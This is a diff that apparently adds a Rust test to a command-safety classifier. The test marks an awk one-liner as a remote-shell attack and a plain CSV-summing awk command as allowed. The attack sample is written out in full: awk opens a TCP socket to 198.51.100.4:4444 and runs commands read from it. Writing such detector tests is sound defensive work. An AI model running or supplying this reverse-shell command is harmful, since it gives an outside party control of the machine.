@@ -50,3 +50,12 @@ fn native_libraries_from_writable_places_are_privilege_escalation() {
     flows("python3 -c 'import ctypes; print(ctypes.CDLL(\"libc.so.6\").getpid())'");
     flows("python3 -c 'import ctypes.util; print(ctypes.util.find_library(\"ssl\"))'");
 }
+
+#[test]
+fn awk_reading_commands_from_a_socket_is_a_remote_shell() {
+    attack(
+        "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.4/4444\"; while (1) {s |& getline c; if (c) {while ((c |& getline) > 0) print $0 |& s; close(c)}}}'",
+        Effect::Shell,
+    );
+    flows("awk -F, '{ total += $3 } END { print total }' sales.csv");
+}
